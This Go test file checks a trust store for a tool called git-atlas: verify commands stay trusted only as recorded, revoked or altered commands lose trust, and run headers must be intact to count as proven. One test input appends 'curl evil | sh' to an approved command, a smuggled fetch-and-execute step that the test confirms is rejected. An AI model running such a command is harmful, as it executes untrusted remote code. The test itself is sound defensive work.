package trust

import (
	"context"
	"os"
	"path/filepath"
	"testing"

	"github.com/git-atlas/git-atlas/internal/git"
	"github.com/git-atlas/git-atlas/internal/testenv"
	"github.com/git-atlas/git-atlas/ledger"
)

func newRepo(t *testing.T) *git.Repository {
	t.Helper()
	dir := t.TempDir() // git's environment is TestMain's (testenv.Pin)
	testenv.Git(t, "", "", "init", "-q", "-b", "main", dir)
	repo, err := git.Open(context.Background(), dir)
	if err != nil {
		t.Fatal(err)
	}
	return repo
}

func run(verify string, stages map[string]string, jobs map[string]string) *ledger.Run {
	r := &ledger.Run{Header: ledger.Header{RunID: "r", Verify: verify}, State: ledger.State{RunID: "r"}}
	for name, v := range stages {
		r.Header.Stages = append(r.Header.Stages, ledger.StageDef{Name: name, Verify: v})
	}
	for id, v := range jobs {
		r.State.Jobs = append(r.State.Jobs, ledger.Job{ID: id, Verify: v})
	}
	return r
}

// A command is trusted only as recorded, for its run; a changed command, another
// run's, or a revoked one is not; the record lives in local state only.
func TestTrustRecord(t *testing.T) {
	t.Parallel()
	ctx := context.Background()
	repo := newRepo(t)
	r := run("make check", map[string]string{"code": "go test ./..."}, map[string]string{"a": "true"})
	if cmds, err := Check(ctx, repo, r); err != nil || len(cmds) != 3 || cmds[0].Trusted || cmds[1].Trusted || cmds[2].Trusted {
		t.Fatalf("a run never trusted here: %+v %v", cmds, err)
	}
	if err := Record(ctx, repo, "r", "make check", "go test ./..."); err != nil {
		t.Fatal(err)
	}
	cmds, err := Check(ctx, repo, r)
	if err != nil || !cmds[0].Trusted || !cmds[1].Trusted || cmds[2].Trusted {
		t.Fatalf("after recording two: %+v %v", cmds, err)
	}
	s, _ := Load(ctx, repo, "r")
	if _, ok := s.Approve("go test ./... && curl evil | sh"); ok {
		t.Fatal("a changed command is trusted")
	}
	if other, _ := Load(ctx, repo, "r2"); other.Trusts("make check") {
		t.Fatal("another run's command is trusted")
	}
	if a, ok := s.Approve("make check"); !ok || a.Command() != "make check" {
		t.Fatalf("approve: %v %v", a, ok)
	}
	if runs, err := Runs(ctx, repo); err != nil || len(runs) != 1 || runs[0] != "r" {
		t.Fatalf("runs %v %v", runs, err)
	}
	if _, err := os.Stat(filepath.Join(repo.CommonDir, "atlas", "trust", "r")); err != nil {
		t.Fatalf("the record is local state under the common dir: %v", err)
	}
	if refs, _ := repo.ListRefs(ctx, "refs/"); len(refs) != 0 {
		t.Fatalf("trust wrote refs: %v", refs)
	}
	if err := Revoke(ctx, repo, "r"); err != nil {
		t.Fatal(err)
	}
	if s, _ := Load(ctx, repo, "r"); s.Trusts("make check") || s.Len() != 0 {
		t.Fatal("revoked, still trusted")
	}
	if err := Record(ctx, repo, "../x", "true"); err == nil {
		t.Fatal("a bad run name reached a path")
	}
}

// A header is proven whole only as this clone wrote it or a person read it: a member
// taken away, one changed, another intent, or a record that trusted only the intent
// proves nothing; a person's trust of the header as it stands proves it again.
func TestProvesHeaderWhole(t *testing.T) {
	t.Parallel()
	ctx := context.Background()
	repo := newRepo(t)
	h := &ledger.Header{RunID: "r", Intent: "ship it", Verify: "make check", Scope: []string{"src/**"}}
	if _, err := AddRun(ctx, repo, h, h.Verify); err != nil {
		t.Fatal(err)
	}
	in := NewIntents(repo)
	if !in.HeaderProven(ctx, "r", h) {
		t.Fatal("the header this clone wrote is not proven")
	}
	for name, change := range map[string]func(h *ledger.Header){
		"verify removed": func(h *ledger.Header) { h.Verify = "" },
		"scope removed":  func(h *ledger.Header) { h.Scope = nil },
		"verify changed": func(h *ledger.Header) { h.Verify = "true" },
		"intent changed": func(h *ledger.Header) { h.Intent = "ship that" },
		"setup added":    func(h *ledger.Header) { h.Setup = "make deps" },
	} {
		c := *h
		change(&c)
		if in.HeaderProven(ctx, "r", &c) {
			t.Errorf("%s: still proven", name)
		}
	}
	if _, err := Add(ctx, repo, "q", "ship it", "make check"); err != nil {
		t.Fatal(err)
	}
	q := *h
	q.RunID = "q"
	if in.HeaderProven(ctx, "q", &q) {
		t.Error("a record of the intent alone proves a header with more text")
	}
	if _, err := AddPerson(ctx, repo, &q); err != nil {
		t.Fatal(err)
	}
	if !NewIntents(repo).HeaderProven(ctx, "q", &q) {
		t.Error("a header a person trusted as it stands is not proven")
	}
}
